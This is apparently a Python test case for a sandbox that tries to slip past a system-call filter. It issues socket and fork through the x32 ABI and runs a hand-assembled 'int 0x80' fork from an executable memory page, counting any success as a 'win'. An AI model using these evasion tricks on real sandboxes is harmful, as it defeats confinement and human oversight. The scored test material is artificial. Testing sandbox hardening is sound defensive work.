"""Make system calls as a 32-bit program would, whose numbers a filter may not know.

base: solution
at_most: 95           # 10 if the process is killed for it
wins: a process or a socket was made
"""
import ctypes
import mmap
import os
import platform

X32 = 0x40000000
FORK_BY_INTERRUPT = b"\xb8\x02\x00\x00\x00\xcd\x80\xc3"  # mov eax, 2; int 0x80; ret
found = []
first = os.getpid()

if platform.machine() == "x86_64":
    libc = ctypes.CDLL(None)
    for number, arguments in ((41, (2, 1, 0)), (57, ())):  # socket, fork
        try:
            if libc.syscall(ctypes.c_long(X32 + number), *map(ctypes.c_long, arguments)) > 0:
                found.append(f"x32 call {number}")
        except BaseException:
            pass
    try:
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(FORK_BY_INTERRUPT)
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        if ctypes.CFUNCTYPE(ctypes.c_int)(address)() > 0:
            found.append("fork by interrupt 0x80")
    except BaseException:
        pass
if os.getpid() != first:
    os._exit(0)
if found:
    raise RuntimeError(f"WON: {found}")
